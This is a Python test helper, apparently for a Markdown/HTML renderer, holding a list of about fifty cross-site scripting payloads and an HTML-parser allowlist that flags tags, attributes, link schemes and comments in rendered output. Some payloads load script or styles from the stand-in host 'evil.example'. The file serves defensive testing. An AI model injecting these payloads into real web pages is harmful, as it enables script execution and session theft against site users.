"""Texts that try to run a script, and a look at whether HTML would let one."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p></li></section><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    '<!--item:0"><img src=x onerror=alert(1)>-->',
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=`x` onerror=alert`1`>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>more</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<a href=javascript:alert(1)>go</a>",
    '<a href="jav&#x09;ascript:alert(1)">go</a>',
    '<a data-career="x" onclick=alert(1)>go</a>',
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% load static %}<script>alert(1)</script>",
    "[go](javascript:alert(1))",
    "[go](JaVaScRiPt&colon;alert(1))",
    "[go](<java\tscript:alert(1)>)",
    "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[go](vbscript:msgbox(1))",
    '[go](https://example.org "\\" onmouseover=\\"alert(1)")',
    "![go](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[go]\n\n[go]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```<script>\nalert(1)\n```",
)

HARMLESS_TAGS = {
    "p", "br", "hr", "h4", "h5", "h6", "strong", "em", "ul", "ol", "li", "blockquote", "code", "pre", "a",
}  # fmt: skip
HARMLESS_ATTRIBUTES = {"href", "title", "data-career", "start", "id"}
HARMLESS_SCHEMES = {"", "http", "https", "mailto"}


class Look(HTMLParser):
    """Reads a rendered text as a browser would, and notes what a text has no business with."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag not in HARMLESS_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in HARMLESS_ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            elif name == "href" and urlsplit("".join((value or "").split())).scheme not in HARMLESS_SCHEMES:
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data):
        if not re.fullmatch("item:[a-z-]+/[0-9a-f]{5}", data):
            self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data):
        self.found.append(f"<?{data}>")


def executable(html: str) -> list[str]:
    """What in a rendered text is, or could become, more than words and links; nothing where all is well."""
    look = Look()
    look.feed(html)
    look.close()
    return look.found
